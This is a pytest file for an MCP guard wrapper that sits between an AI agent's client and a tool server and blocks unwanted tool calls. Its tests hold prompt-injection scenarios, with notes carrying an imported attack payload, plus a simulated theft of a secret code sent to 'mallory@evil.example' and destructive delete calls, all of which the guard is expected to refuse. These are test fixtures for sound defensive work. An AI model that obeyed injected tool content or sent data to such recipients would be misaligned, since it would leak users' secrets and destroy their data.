"""The wrapper as a user runs it: a real server of tools behind it, and that protocol's own client before it."""

from __future__ import annotations

import asyncio
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import IO, Any

import pytest
from guard.doors.mcp_peers import ATTACK, CANARY, SERVER, answer, call, said

from accord.guard.doors.jsonrpc import LARGEST

pytest.importorskip("mcp")

GUARD = f"""
guard: 1
detector: off
canaries: [{CANARY}]
tools:
  - name: send_message
    approval: none
"""
NOBODY = {"name": "nobody", "version": "1"}
ECHO = """
import sys, json
for line in sys.stdin:
    asked = json.loads(line)
    if asked.get("method") == "die":
        sys.exit(7)
    if asked.get("method") == "tools/list":
        {listing}
    elif asked.get("id") is not None:
        print(json.dumps({{"jsonrpc": "2.0", "id": asked["id"], "result": {{"saw": asked["method"]}}}}), flush=True)
"""


class Wrapped:
    """A server behind the wrapper, spoken to line by line."""

    def __init__(self, command: list[str]) -> None:
        self.process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)

    def tell(self, data: bytes) -> None:
        stdin: IO[bytes] | None = self.process.stdin
        assert stdin is not None
        stdin.write(data + b"\n")
        stdin.flush()

    def hear(self) -> Any:
        assert self.process.stdout is not None
        line = self.process.stdout.readline()
        return json.loads(line) if line else None

    def end(self) -> tuple[int, bytes]:
        _, told = self.process.communicate(timeout=30)
        return self.process.returncode, told


@pytest.fixture
def files(tmp_path: Path) -> Path:
    (tmp_path / "guard.yaml").write_text(GUARD)
    (tmp_path / "server.py").write_text(SERVER.replace("ATTACK", ATTACK))
    return tmp_path


def wrapper(files: Path, *options: str, policy: str = "guard.yaml") -> list[str]:
    accord = [
        sys.executable,
        "-c",
        "from accord.cli import main; main()",
        "guard",
        "mcp",
        "--policy",
        str(files / policy),
    ]
    return [*accord, *options, "--"]


@pytest.fixture
def echo(files: Path) -> Iterator[Any]:
    begun: list[Wrapped] = []

    def begin(*options: str, listing: str = "pass") -> Wrapped:
        (files / "echo.py").write_text(ECHO.format(listing=listing))
        begun.append(Wrapped([*wrapper(files, *options), sys.executable, str(files / "echo.py")]))
        return begun[-1]

    yield begin
    for one in begun:
        if one.process.poll() is None:
            one.process.kill()
            one.process.wait()
        for stream in (one.process.stdin, one.process.stdout, one.process.stderr):
            if stream is not None:
                stream.close()


@pytest.mark.parametrize("mode", ["legacy", "auto"])
def test_the_protocols_own_client_works_with_a_real_server_through_the_wrapper(files: Path, mode: str) -> None:
    from mcp import StdioServerParameters
    from mcp.client.client import Client
    from mcp.client.stdio import stdio_client

    log, sent = files / "log.jsonl", files / "sent.txt"
    command = [*wrapper(files, "--log", str(log)), sys.executable, str(files / "server.py"), str(sent)]
    told: dict[str, Any] = {}

    async def tries(client: Any, key: str, name: str, /, **arguments: Any) -> None:
        try:
            result = await client.call_tool(name, arguments)
            told[key] = "".join(getattr(block, "text", "") for block in result.content)
        except Exception as error:  # noqa: BLE001  # whatever the client makes of a refusal
            told[key] = f"refused: {error}"

    async def session() -> None:
        server = StdioServerParameters(command=command[0], args=command[1:], env=dict(os.environ))
        async with Client(stdio_client(server), mode=mode) as client:
            told["tools"] = [tool.name for tool in (await client.list_tools()).tools]
            await tries(client, "sent", "send_message", recipient="ann@home.example", body="hello")
            await tries(client, "canary", "send_message", recipient="ann@home.example", body=CANARY)
            await tries(client, "read", "read_note", name="monday")
            await tries(client, "attack", "read_note", name="attack")
            await tries(client, "evil", "read_note", name="evil")
            await tries(client, "stolen", "send_message", recipient="mallory@evil.example", body="the code is 7741")
            await tries(client, "deleted", "delete_note", name="monday")
            await asyncio.gather(*(tries(client, f"many{at}", "read_note", name=f"n{at}") for at in range(20)))

    asyncio.run(asyncio.wait_for(session(), 60))
    assert told["tools"] == ["read_note", "send_message", "delete_note"]
    assert told["sent"] == "sent"
    assert told["read"] == "the note monday says: buy milk"
    assert "Meet at noon" in told["evil"]
    for refused in ("canary", "stolen", "deleted"):
        assert told[refused].startswith("refused"), refused
    assert all(told[f"many{at}"] == f"the note n{at} says: buy milk" for at in range(20))
    assert sent.read_text() == "ann@home.example: hello\n"
    decisions = [json.loads(line) for line in log.read_text().splitlines()]
    stopped = [one["code"] for one in decisions if one["outcome"] in {"block", "ask"}]
    assert stopped == ["ACC-E774", "canary", "ACC-E716", "ACC-E711"]
    assert CANARY not in log.read_text()


def test_the_wrapper_ends_with_the_exit_code_of_the_server(echo: Any) -> None:
    wrapped = echo()
    wrapped.tell(said("ping", 1))
    assert wrapped.hear()["result"] == {"saw": "ping"}
    wrapped.tell(said("die"))
    wrapped.tell(said("notifications/initialized"))
    wrapped.tell(b'{"jsonrpc":"2.0","method":"notifications/die"}')
    assert wrapped.process.stdin is not None
    wrapped.process.stdin.close()
    wrapped.process.stdin = None
    assert wrapped.end()[0] == 0


def test_a_server_that_dies_ends_the_wrapper(files: Path) -> None:
    (files / "dies.py").write_text("import sys; sys.stdin.readline(); sys.exit(7)")
    wrapped = Wrapped([*wrapper(files), sys.executable, str(files / "dies.py")])
    wrapped.tell(said("ping", 1))
    assert wrapped.hear() is None
    assert wrapped.end()[0] == 7


def test_a_server_that_cannot_be_started_is_said(files: Path) -> None:
    code, told = Wrapped([*wrapper(files), "/no/such/program"]).end()
    assert code == 2
    assert b"ACC-E778" in told


def test_nothing_passes_while_decisions_cannot_be_written(echo: Any) -> None:
    wrapped = echo("--log", "/dev/full")
    wrapped.tell(said("ping", 1))
    assert wrapped.hear() is None
    code, told = wrapped.end()
    assert code == 3
    assert b"ACC-E759" in told


def test_lines_that_are_no_messages_are_answered_or_dropped_and_the_session_goes_on(echo: Any) -> None:
    wrapped = echo()
    wrapped.tell(b"rubbish")
    assert wrapped.hear()["error"]["data"]["code"] == "ACC-E771"
    wrapped.tell(b"")
    wrapped.tell(b'{"jsonrpc":"2.0","id":1,"method":"ping","x":"' + b"a" * (LARGEST + 10) + b'"}')
    assert wrapped.hear()["error"]["data"]["code"] == "ACC-E770"
    wrapped.tell(said("ping", "odd \u2028 id"))
    assert wrapped.hear()["id"] == "odd \u2028 id"


def test_a_servers_chatter_and_too_long_answers_do_not_reach_the_client(echo: Any) -> None:
    unasked = json.dumps({"jsonrpc": "2.0", "id": 99, "result": {}})
    chatter = f"print('starting up', {unasked!r}, 'a' * %d, sep=chr(10), flush=True)"
    wrapped = echo(listing=chatter % (LARGEST + 100))
    wrapped.tell(said("tools/list", 1))
    heard = wrapped.hear()
    assert (heard["id"], heard["error"]["data"]["code"]) == (1, "ACC-E770")
    wrapped.tell(said("ping", 2))
    assert wrapped.hear()["result"] == {"saw": "ping"}


def test_a_refused_call_is_answered_while_others_run(echo: Any) -> None:
    wrapped = echo()
    wrapped.tell(said("ping", 1))
    wrapped.tell(call(2, "delete_everything", now=True))
    wrapped.tell(said("ping", 3))
    heard = {one["id"]: one for one in (wrapped.hear() for _ in range(3))}
    assert heard[2]["error"]["data"]["code"] == "ACC-E710"
    assert heard[1]["result"] == heard[3]["result"] == {"saw": "ping"}


def test_a_batch_comes_back_in_two_parts(echo: Any) -> None:
    wrapped = echo()
    good, bad = json.loads(said("ping", 1)), json.loads(call(2, "delete_everything"))
    wrapped.tell(json.dumps([bad]).encode())
    assert wrapped.hear()[0]["id"] == bad["id"]
    wrapped.tell(json.dumps(good).encode())
    assert wrapped.hear()["id"] == 1


def test_many_large_messages_both_ways_do_not_block(echo: Any) -> None:
    told = '{"jsonrpc": "2.0", "id": asked["id"], "result": {"tools": [], "x": "y" * 300000}}'
    listing = f"print(json.dumps({told}), flush=True)"
    wrapped = echo(listing=listing)
    for at in range(8):
        wrapped.tell(json.dumps({"jsonrpc": "2.0", "id": at, "method": "tools/list", "p": "z" * 40_000}).encode())
    assert sorted(wrapped.hear()["id"] for _ in range(8)) == list(range(8))


def test_the_end_of_the_wrapper_is_the_end_of_a_server_that_will_not_end(files: Path) -> None:
    (files / "stays.py").write_text(
        "import signal, time, os\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        f"open({str(files / 'pid')!r}, 'w').write(str(os.getpid()))\ntime.sleep(600)"
    )
    wrapped = Wrapped([*wrapper(files), sys.executable, str(files / "stays.py")])
    while not (files / "pid").exists() or not (files / "pid").read_text():
        time.sleep(0.05)
    wrapped.process.send_signal(signal.SIGTERM)
    code, _ = wrapped.end()
    assert code == 3
    with pytest.raises(ProcessLookupError):
        os.kill(int((files / "pid").read_text()), 0)


def test_the_users_words_are_taken_from_the_command_line(echo: Any) -> None:
    tools = [{"name": "send_message", "description": "Sends a message.", "inputSchema": {"type": "object"}}]
    told = answer(1, {"tools": tools}).decode()
    wrapped = echo("--asked", "send a message to ann@home.example", listing=f"print({told!r}, flush=True)")
    wrapped.tell(said("tools/list", 1))
    assert wrapped.hear()["result"]["tools"]
    wrapped.tell(call(2, "send_message", recipient="ann@home.example"))
    assert wrapped.hear()["result"] == {"saw": "tools/call"}
    wrapped.tell(call(3, "send_message", recipient="bob@home.example"))
    assert wrapped.hear()["error"]["data"]["code"] == "ACC-E716"


def test_the_tools_of_a_server_are_printed_as_entries_that_hold_it_to_what_it_says(files: Path) -> None:
    server = [sys.executable, str(files / "server.py"), str(files / "sent.txt")]
    printed = subprocess.run(
        [*wrapper(files, "--pins"), *server], capture_output=True, text=True, timeout=60, check=True
    )
    assert '# "add" gives orders to the model' in printed.stdout
    (files / "pinned.yaml").write_text(f"guard: 1\ndetector: off\n{printed.stdout}")
    wrapped = Wrapped([*wrapper(files, policy="pinned.yaml"), *server])
    wrapped.tell(said("initialize", 1, protocolVersion="2025-11-25", capabilities={}, clientInfo=NOBODY))
    assert wrapped.hear()["result"]
    wrapped.tell(said("notifications/initialized"))
    wrapped.tell(said("tools/list", 2))
    assert [tool["name"] for tool in wrapped.hear()["result"]["tools"]] == ["read_note", "send_message", "delete_note"]
    assert wrapped.process.stdin is not None
    wrapped.process.stdin.close()
    wrapped.process.stdin = None
    wrapped.end()
    code, told = Wrapped([*wrapper(files, "--pins"), sys.executable, "-c", "print(1)"]).end()
    assert (code, b"ACC-E778" in told) == (2, True)


def test_files_in_place_of_pipes_are_said(files: Path) -> None:
    with (files / "out").open("wb") as out:
        command = [*wrapper(files), sys.executable, "-c", "pass"]
        done = subprocess.run(
            command, stdin=subprocess.DEVNULL, stdout=out, stderr=subprocess.PIPE, timeout=60, check=False
        )
    assert done.returncode == 2
    assert b"have to be pipes" in done.stderr
